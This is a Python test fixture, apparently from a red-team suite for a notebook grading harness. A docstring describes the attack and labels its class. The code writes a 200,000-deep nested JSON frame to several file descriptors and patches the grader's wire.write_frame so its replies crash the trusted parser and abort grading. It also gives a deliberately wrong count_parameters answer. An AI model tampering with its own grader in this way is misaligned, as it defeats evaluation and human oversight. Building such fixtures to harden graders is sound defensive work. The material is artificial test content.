"""Sends the grader a reply nested too deeply for its JSON parser.

attack: writes a frame of 200000 nested JSON arrays to fds 3..10, and makes the worker's own next reply one too (by patching grader.learner.core.wire.write_frame), hoping the trusted side's json.loads blows up and the whole notebook's grading aborts
class: forged-output
honest: sigmoid, relu, predict
"""

# %% +after predict_code
import os
import struct

_deep = b"[" * 200_000 + b"]" * 200_000
# The frame's layout: [body size][JSON size][JSON][buffer count], so the nesting reaches the parser.
_deep_body = struct.pack(">I", len(_deep)) + _deep + struct.pack(">I", 0)
_deep_frame = struct.pack(">I", len(_deep_body)) + _deep_body
for _fd in range(3, 11):
    try:
        os.write(_fd, _deep_frame)
    except OSError:
        pass

try:
    from grader.learner.core import wire as _wire

    _real_write_frame = _wire.write_frame

    def _poisoned(stream, message, _real=_real_write_frame):
        stream.write(_deep_frame)
        stream.flush()

    _wire.write_frame = _poisoned
except Exception as exc:  # noqa: BLE001
    print("could not patch the wire:", exc)

# %% count_parameters_code
def count_parameters(layer_sizes):
    return -1
